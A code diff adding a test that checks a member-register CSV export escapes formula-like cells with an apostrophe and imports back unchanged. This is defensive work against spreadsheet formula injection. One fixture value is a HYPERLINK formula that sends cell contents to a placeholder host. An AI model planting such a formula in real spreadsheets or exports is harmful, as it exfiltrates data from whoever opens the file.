@@ -71,6 +71,34 @@ def test_export_csv_and_xlsx_parse_back_and_reimport_is_a_no_op(gov, editor_clie
     assert errors == [] and summary.updated == 0 and summary.unchanged == 3
 
 
+def test_csv_export_writes_formulas_as_text_and_imports_back_unchanged(
+    gov,  # noqa: F811
+    editor_client,
+    editor_user,
+):
+    import_register(csv_bytes([HEADER, *GOOD]), "v1.csv", user=editor_user)
+    names = {
+        "S-001": '=HYPERLINK("http://x.test/?"&C2;"ok")',
+        "S-002": "-Commune de Val-de-Sarre",
+        "S-003": "'=déjà entre guillemets",
+    }
+    for number, name in names.items():
+        MemberPage.objects.filter(member_number=number).update(title=name)
+    MemberPage.objects.filter(member_number="S-003").update(territory="@Val-de-Sarre")
+    content = b"".join(editor_client.get(REPORT + "?export=csv").streaming_content)
+    rows = {row[0]: row for row in csv.reader(io.StringIO(content.decode("utf-8-sig")))}
+    assert rows["S-001"][1] == "'" + names["S-001"]
+    assert rows["S-002"][1] == "'-Commune de Val-de-Sarre"
+    assert rows["S-003"][1] == "''=déjà entre guillemets"
+    assert rows["S-003"][9] == "'@Val-de-Sarre"
+    assert rows["S-002"][5] == "10"  # shares: a number, no prefix
+    summary, errors = import_register(content, "export.csv", user=editor_user)
+    assert errors == []
+    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 3)
+    assert dict(MemberPage.objects.values_list("member_number", "title")) == names
+    assert MemberPage.objects.get(member_number="S-003").territory == "@Val-de-Sarre"
+
+
 def test_printable_register_in_order_of_admission(gov, editor_client, editor_user):  # noqa: F811
     import_register(csv_bytes([HEADER, *GOOD]), "v1.csv", user=editor_user)
     html = editor_client.get(reverse("register_print")).content.decode()
